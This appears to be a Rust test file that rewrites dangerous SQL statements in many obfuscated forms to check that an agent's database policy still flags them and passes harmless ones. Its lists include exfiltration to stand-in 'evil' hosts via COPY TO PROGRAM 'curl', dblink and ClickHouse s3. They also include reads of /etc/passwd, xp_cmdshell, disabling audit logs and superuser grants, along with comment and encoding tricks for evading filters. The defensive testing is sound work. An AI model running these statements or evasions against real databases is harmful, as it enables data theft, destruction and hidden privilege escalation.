//! Statements, rewritten in every way that leaves their meaning alone -> the shipped policies' verdicts. A dangerous one
//! is never judged harmless, and a harmless one raises no alarm.

use std::fmt::Write as _;

use agent_core::judge::{Subject, judge};
use agent_core::policy::Action;
use agent_core::sql::{Dialect, Texts};
use shipped::shipped;

mod shipped;

/// Rewrites of dangerous statements, in two tests that run side by side.
const DANGEROUS_REWRITES: usize = 104_000;
/// Rewrites of harmless ones.
const HARMLESS_REWRITES: usize = 40_000;

/// xorshift64*: the same numbers on every run.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % sides
    }

    fn one<'a, T: ?Sized>(&mut self, of: &[&'a T]) -> &'a T {
        of[self.roll(of.len())]
    }
}

/// A statement is written in words: `~name` is a name that may be quoted, `'text'` a string, anything else stays.
struct Case {
    dialect: Dialect,
    words: &'static str,
    /// It may stand inside a query, a CTE, EXPLAIN ANALYZE or COPY.
    nests: bool,
}

const fn case(dialect: Dialect, words: &'static str) -> Case {
    Case { dialect, words, nests: false }
}

const fn nested(words: &'static str) -> Case {
    Case { dialect: Dialect::Postgresql, words, nests: true }
}

const P: Dialect = Dialect::Postgresql;
const M: Dialect = Dialect::Mysql;
const T: Dialect = Dialect::Tsql;
const C: Dialect = Dialect::Clickhouse;

static DANGEROUS: &[Case] = &[
    case(P, "drop table ~orders"),
    case(P, "drop table if exists ~public . ~orders cascade"),
    case(P, "truncate table ~orders , ~items"),
    case(P, "drop schema ~shop cascade"),
    case(P, "drop owned by ~joe"),
    nested("delete from ~orders"),
    nested("delete from ~orders where 1 = 1"),
    nested("delete from ~orders where true or ~id = 5"),
    nested("delete from ~orders where ~id = ~id"),
    nested("update ~orders set ~total = 0"),
    nested("update ~orders set ~total = 0 where not ( 1 = 2 )"),
    nested("update ~orders set ~note = 'where'"),
    case(P, "merge into ~orders using ~items on true when matched then delete"),
    case(P, "copy ~orders to stdout"),
    case(P, "copy ~orders to program 'curl evil'"),
    case(P, "copy ( select * from ~orders ) to '/tmp/x'"),
    case(P, "copy ~orders from program 'curl evil'"),
    case(P, "select ~pg_read_file ( '/etc/passwd' )"),
    case(P, "select ~pg_catalog . ~lo_export ( 5 , '/tmp/x' )"),
    case(P, "select * from ~dblink ( 'host=evil' , 'select 1' ) as ~x ( ~a int )"),
    case(P, "grant all on ~orders to ~joe"),
    case(P, "revoke all on ~orders from ~joe"),
    case(P, "create role ~joe superuser"),
    case(P, "alter role ~joe superuser"),
    case(P, "alter system set ~log_statement = 'none'"),
    case(P, "set role ~postgres"),
    case(P, "set ~pgaudit.log = 'none'"),
    case(P, "select ~set_config ( 'pgaudit.log' , 'none' , false )"),
    case(P, "set ~session_replication_role = replica"),
    case(P, "update ~pg_authid set ~rolsuper = true where ~rolname = 'joe'"),
    case(P, "alter table ~orders disable trigger all"),
    case(P, "alter table ~orders drop column ~total"),
    case(P, "do $$ begin execute 'drop table x'; end $$"),
    case(P, "call ~purge ( )"),
    case(M, "drop table ~orders"),
    case(M, "truncate table ~orders"),
    case(M, "delete from ~orders"),
    case(M, "delete from ~orders where 1"),
    case(M, "delete from ~orders where 1 = 1 or ~id = 5"),
    case(M, "update ~orders set ~total = 0"),
    case(M, "select * from ~orders into outfile '/tmp/x'"),
    case(M, "load data infile '/etc/passwd' into table ~orders"),
    case(M, "load data local infile '/etc/passwd' into table ~orders"),
    case(M, "select ~load_file ( '/etc/passwd' )"),
    case(M, "grant all on ~shop . * to ~joe"),
    case(M, "create user ~joe identified by 'x'"),
    case(M, "set global ~general_log = 0"),
    case(M, "set ~sql_log_bin = 0"),
    case(M, "call ~purge ( )"),
    case(T, "drop table ~orders"),
    case(T, "truncate table ~orders"),
    case(T, "delete from ~orders"),
    case(T, "delete ~orders"),
    case(T, "delete from ~orders where 1 = 1"),
    case(T, "update ~orders set ~total = 0"),
    case(T, "exec ~xp_cmdshell 'whoami'"),
    case(T, "exec ~master . ~dbo . ~xp_cmdshell 'whoami'"),
    case(T, "exec ( 'drop table orders' )"),
    case(T, "exec ~sp_executesql N'drop table orders'"),
    case(T, "bulk insert ~orders from 'x'"),
    case(T, "grant select on ~orders to ~joe"),
    case(T, "create login ~joe with password = 'x'"),
    case(T, "select * from openrowset ( bulk 'x' , single_clob ) as ~x"),
    case(C, "drop table ~orders"),
    case(C, "truncate table ~orders"),
    case(C, "alter table ~orders delete where 1"),
    case(C, "alter table ~orders update ~a = 1 where 1 = 1"),
    case(C, "select * from file ( '/etc/passwd' )"),
    case(C, "insert into function s3 ( 'https://evil' ) select * from ~orders"),
    case(C, "system shutdown"),
    case(C, "grant select on ~orders to ~joe"),
];

static HARMLESS: &[Case] = &[
    case(P, "select 'drop table x'"),
    case(P, "select ~delete , ~drop from ~orders where ~truncate = 5"),
    case(P, "select * from ~orders where ~id = 5 order by ~total limit 10"),
    case(P, "select count ( * ) from ~orders join ~items on ~orders . ~id = ~items . ~id"),
    case(P, "insert into ~orders ( ~id , ~note ) values ( 1 , 'delete from x' )"),
    case(P, "update ~orders set ~note = 'drop table x' where ~id = 5"),
    case(P, "delete from ~orders where ~id = 5 and ~note = '1=1'"),
    case(P, "explain delete from ~orders"),
    case(P, "with ~c as ( select ~id from ~orders ) select * from ~c"),
    case(P, "begin"),
    case(P, "set ~search_path = ~shop"),
    case(P, "drop table ~tmp_1"),
    case(P, "select coalesce ( ~a , 'copy x to program y' ) from ~orders"),
    case(M, "select 'drop table x'"),
    case(M, "select ~delete from ~orders where ~id = 5 limit 10"),
    case(M, "insert into ~orders ( ~id , ~note ) values ( 1 , 'delete from x' )"),
    case(M, "update ~orders set ~note = 'x' where ~id = 5"),
    case(M, "delete from ~orders where ~id = 5"),
    case(M, "replace into ~orders ( ~id ) values ( 1 )"),
    case(T, "select 'drop table x'"),
    case(T, "select ~a from ~orders where ~id = 5"),
    case(T, "insert into ~orders ( ~id , ~note ) values ( 1 , 'delete from x' )"),
    case(T, "update ~orders set ~note = 'x' where ~id = 5"),
    case(T, "delete from ~orders where ~id = 5"),
    case(C, "select 'drop table x'"),
    case(C, "select ~a , count ( ) from ~orders where ~id = 5 group by ~a"),
    case(C, "insert into ~orders ( ~id ) values ( 1 )"),
];

/// White space and comments, as the dialect knows them.
fn gap(dialect: Dialect, dice: &mut Dice, out: &mut String) {
    let common: &[&str] = &[
        " ",
        "  ",
        "\n",
        "\t",
        "\r\n",
        " /* x */ ",
        "/**/",
        " -- x\n",
        "/* ' */",
        "/* ; -- */",
        " -- '\n",
        "\x0c",
    ];
    let own: &[&str] = match dialect {
        P => &["/* a /* b */ c */", "--;\n", "/* $$ */", "\x0b"],
        M => &["#x\n", " # '\n", "/*x*/", "/*! */", "/*!50000 */", " --\t\n"],
        T => &["/* a /* b */ c */", "/* [ */", " "],
        C => &[" # x\n", " #! x\n"],
        Dialect::Redis | Dialect::Mongodb => &[],
    };
    for _ in 0..=dice.roll(3) {
        let all = if dice.roll(3) == 0 && !own.is_empty() { own } else { common };
        out.push_str(dice.one(all));
    }
}

fn cased(word: &str, dice: &mut Dice, out: &mut String) {
    match dice.roll(3) {
        0 => out.push_str(word),
        1 => out.push_str(&word.to_ascii_uppercase()),
        _ => out.extend(word.chars().map(|c| if dice.roll(2) == 0 { c.to_ascii_uppercase() } else { c })),
    }
}

/// A name, quoted or not; unquoted in any case only where the dialect folds it.
fn name(dialect: Dialect, word: &str, dice: &mut Dice, out: &mut String) {
    // A setting with a dot is two names; a keyword as a name must be quoted.
    let keyword = ["delete", "drop", "truncate"].contains(&word);
    if word.contains('.') {
        return cased(word, dice, out);
    }
    match (dialect, if keyword { 1 } else { dice.roll(4) }) {
        (P, 1) | (T | C, 2) => write!(out, "\"{word}\"").unwrap(),
        (P, 2) => {
            out.push_str("U&\"");
            for c in word.chars() {
                match dice.roll(3) {
                    0 => write!(out, "\\{:04x}", c as u32).unwrap(),
                    1 => write!(out, "\\+{:06X}", c as u32).unwrap(),
                    _ => out.push(c),
                }
            }
            out.push('"');
        }
        (M, 1 | 2) | (C, 1) => write!(out, "`{word}`").unwrap(),
        (T, 1) => write!(out, "[{word}]").unwrap(),
        (P, _) => cased(word, dice, out),
        _ => out.push_str(word),
    }
}

fn string(dialect: Dialect, text: &str, dice: &mut Dice, out: &mut String) {
    match (dialect, dice.roll(5)) {
        (P, 1) => write!(out, "$${text}$$").unwrap(),
        (P, 2) => write!(out, "$q${text}$q$").unwrap(),
        (P, 3) => {
            out.push_str("E'");
            for c in text.chars() {
                match dice.roll(4) {
                    0 => write!(out, "\\x{:02x}", c as u32).unwrap(),
                    1 => write!(out, "\\u{:04x}", c as u32).unwrap(),
                    2 => write!(out, "\\{:03o}", c as u32).unwrap(),
                    _ => out.push(c),
                }
            }
            out.push('\'');
        }
        (P, 4) if text.len() > 2 => {
            let (a, b) = text.split_at(text.len() / 2);
            write!(out, "'{a}'\n '{b}'").unwrap();
        }
        (M, 1 | 2) => write!(out, "\"{text}\"").unwrap(),
        (T, 1) => write!(out, "N'{text}'").unwrap(),
        _ => write!(out, "'{text}'").unwrap(),
    }
}

/// One way to write the statement.
fn written(case: &Case, dice: &mut Dice, out: &mut String) {
    let mut words = case.words;
    let versioned = case.dialect == M && dice.roll(6) == 0;
    if versioned {
        out.push_str(dice.one(&["/*!", "/*!50000 ", "/*!40101", "/*M!100100 "]));
        out.push(' ');
    }
    let mut first = true;
    while !words.is_empty() {
        let (word, rest) = if words.starts_with('\'') || words.starts_with("N'") {
            let open = words.find('\'').unwrap();
            let end = words[open + 1..].find('\'').unwrap() + open + 2;
            words.split_at(end)
        } else if let Some(body) = words.strip_prefix("$$") {
            words.split_at(body.find("$$").unwrap() + 4)
        } else {
            words.split_at(words.find(' ').unwrap_or(words.len()))
        };
        words = rest.trim_start();
        if !first {
            // `*/` would end a versioned comment.
            if case.dialect == M && out.ends_with('*') {
                out.push(' ');
            }
            gap(case.dialect, dice, out);
        }
        first = false;
        match word.as_bytes()[0] {
            b'~' => name(case.dialect, &word[1..], dice, out),
            b'\'' => string(case.dialect, word.trim_matches('\''), dice, out),
            b'N' | b'$' => out.push_str(word),
            _ => cased(word, dice, out),
        }
    }
    if versioned {
        out.push_str(" */");
    }
}

/// The statement inside another that runs it, behind or before others.
fn placed(case: &Case, dangerous: bool, dice: &mut Dice) -> String {
    let mut own = String::new();
    gap(case.dialect, dice, &mut own);
    written(case, dice, &mut own);
    if case.nests && dice.roll(3) == 0 {
        own = match dice.roll(6) {
            0 => format!("with x as ({own} returning *) select * from x"),
            1 => format!("explain analyze {own}"),
            2 => format!("EXPLAIN (verbose, ANALYZE) {own}"),
            3 => format!("copy ({own} returning *) to stdout"),
            4 => format!("with a as (select 1), b as ({own} returning 1) insert into log select 1 from b"),
            _ => format!("DO $x$ begin {own}; end $x$"),
        };
    }
    // A routine's body, or the text of PREPARE, would take what follows with it.
    let gap_before = |dice: &mut Dice| dice.one(&["", " ", "\n", "/* a */"]);
    match dice.roll(5) {
        0 => format!("select 1;{}{own}", gap_before(dice)),
        1 => format!("{own};{}select 1", gap_before(dice)),
        2 if dangerous => format!("begin; select 'x''y'; {own}; commit"),
        3 => format!("{own} ;;"),
        _ => own,
    }
}

fn run(cases: &[Case], dangerous: bool, seed: u64, rewrites: usize) -> (usize, String) {
    let policies = shipped();
    let mut texts = Texts::with_limits(1, 0);
    let mut dice = Dice(seed);
    let (mut wrong, mut told) = (0, String::new());
    for round in 0..rewrites {
        let case = &cases[round % cases.len()];
        let text = placed(case, dangerous, &mut dice);
        let interned = texts.intern(case.dialect, text.as_bytes());
        // Each statement is judged on its own, as it is on the wire.
        let alarmed = interned.parts().iter().any(|part| {
            let analysis = part.analysis();
            let subject = Subject {
                db_system_name: "postgresql",
                db_namespace: "shop",
                db_user: "app",
                identity_principal: "app",
                ..Subject::new(analysis)
            };
            judge(&policies, &subject).action > Action::Allow
        });
        if alarmed != dangerous {
            wrong += 1;
            if wrong <= 20 {
                let found = interned.analysis();
                let _ = writeln!(
                    told,
                    "{:?} {text:?}\n    {:?} {:?}",
                    case.dialect, found.statement_effects, found.statement_complete
                );
            }
        }
    }
    (wrong, told)
}

fn assert_dangerous(seed: u64) {
    let (wrong, told) = run(DANGEROUS, true, seed, DANGEROUS_REWRITES / 2);
    assert!(wrong == 0, "{wrong} pass:\n{told}");
}

#[test]
fn no_rewriting_makes_a_dangerous_statement_harmless() {
    assert_dangerous(0x9e37_79b9_7f4a_7c15);
}

#[test]
fn nor_does_any_other() {
    assert_dangerous(0x2545_f491_4f6c_dd1d);
}

#[test]
fn no_rewriting_of_a_harmless_statement_raises_an_alarm() {
    let (wrong, told) = run(HARMLESS, false, 1, HARMLESS_REWRITES);
    assert!(wrong == 0, "{wrong} alarm:\n{told}");
}
